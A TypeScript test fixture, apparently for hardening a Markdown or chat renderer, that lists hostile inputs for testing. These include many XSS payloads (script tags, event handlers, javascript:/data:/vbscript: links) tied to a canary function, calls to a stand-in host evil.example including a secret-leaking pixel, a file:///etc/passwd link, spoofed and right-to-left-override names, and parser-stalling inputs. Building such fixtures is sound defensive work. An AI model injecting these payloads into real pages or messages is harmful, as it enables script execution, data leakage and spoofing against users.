/** What a model, a repository or a stranger may write in order to do more than be read. */

/** Whatever runs calls this; a page in which it was called has lost. */
export const canary = "spindleCanary";
/** Nobody answers there, and nobody may be asked. */
const elsewhere = "https://evil.example";

/** In every place where text comes from somebody else. */
export const markup = `<img src=x onerror=${canary}()><script>${canary}()</script><svg onload=${canary}()>`;

/** A name that ends otherwise than it looks. */
export const turned = "invoice\u202Efdp.exe";

export const activeContent = `# <script>${canary}()</script> Heading ${markup}

<script>${canary}()</script>
<script src="${elsewhere}/x.js"></script>
<img src=x onerror="${canary}()"> <svg onload="${canary}()"><script>${canary}()</script></svg>
<iframe src="javascript:parent.${canary}()" srcdoc="<script>parent.${canary}()</script>"></iframe>
<object data="${elsewhere}/x.swf"></object><embed src="${elsewhere}/x"><base href="${elsewhere}/">
<link rel="stylesheet" href="${elsewhere}/x.css"><style>@import "${elsewhere}/y.css"; body { background: url(${elsewhere}/z) }</style>
<meta http-equiv="refresh" content="0;url=${elsewhere}"><form action="${elsewhere}"><button formaction="javascript:${canary}()">Accept</button></form>
<details open ontoggle="${canary}()"><summary>x</summary></details><video autoplay onloadstart="${canary}()" src="${elsewhere}/v"></video>
<a href="javascript:${canary}()" onclick="${canary}()">inline</a> <math><mi xlink:href="javascript:${canary}()">m</mi></math>

[javascript](javascript:${canary}()) [upper](JaVaScRiPt:${canary}()) [entity](&#106;avascript:${canary}()) [tab](java\tscript:${canary}())
[data](data:text/html,<script>${canary}()</script>) [vbscript](vbscript:${canary}()) [blob](blob:${elsewhere}/x) [file](file:///etc/passwd)
[quotes](https://example.org/"onmouseover="${canary}()) [relative](//evil.example/x) <javascript:${canary}()> [ref][evil]

[evil]: javascript:${canary}()

![remote](${elsewhere}/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=${canary}()>) ![js](javascript:${canary}())
[![both](${elsewhere}/a.png)](javascript:${canary}()) [paypal.com](${elsewhere}/login) [https://github.com](https://github.com@evil.example)

\`\`\`html
${markup}<iframe src="${elsewhere}"></iframe>
\`\`\`

\`\`\`mermaid
graph TD; A["${markup}"] --> B; click A "javascript:${canary}()"
\`\`\`

| ${markup} | b |
|---|---|
| <img src=x onerror=${canary}()> | [x](javascript:${canary}()) |

Hidden: a\u200Bb \u202Edesrever\u202C \u{e0041}\u{e0042}tag, \`code\u2066\u200Bx\`, ${turned}

The end of the active content.`;

const nested = (depth: number) => `${">".repeat(depth)} deep`;

/** Each is a message; what stops a parser, a stack or a layout. */
export const utterances: Record<string, string> = {
  active: activeContent,
  quotes: `${nested(10_000)}\n\n${nested(1_500)}\n\n${nested(300)}\n\nThe end of quotes.`,
  brackets: `${"[".repeat(10_000)}\n\n${"![".repeat(5_000)}\n\n${"[a](".repeat(2_500)}\n\n${"- ".repeat(900)}x\n\nThe end of brackets.`,
  slow: [
    // Each took the parser of Markdown between a fifth of a second and seven.
    "a\u00a0*".repeat(3_900),
    `${"a".repeat(11_900)}@`,
    `${"*".repeat(5_000)}a${"*".repeat(5_000)}`,
    `${"a".repeat(5_900)}@${"a".repeat(5_900)}`,
    `${"*a **b ".repeat(300)}${" c** d*".repeat(300)}`,
    "http://_".repeat(1_400),
    "<a b='".repeat(1_900),
    "`a".repeat(5_900),
    `a|a\n-|-\n${"|".repeat(11_000)}`,
    "&#".repeat(5_900),
    "The end of slow.",
  ].join("\n\n"),
  invisible: `\`${"\u200b\u202e".repeat(20_000)}\`\n\n\`\`\`\n${"\u2066\u2069".repeat(20_000)}\n\`\`\`\n\nThe end of invisible.`,
  longLine: `${"x".repeat(5_000_000)}\n\nThe end of longLine.`,
};
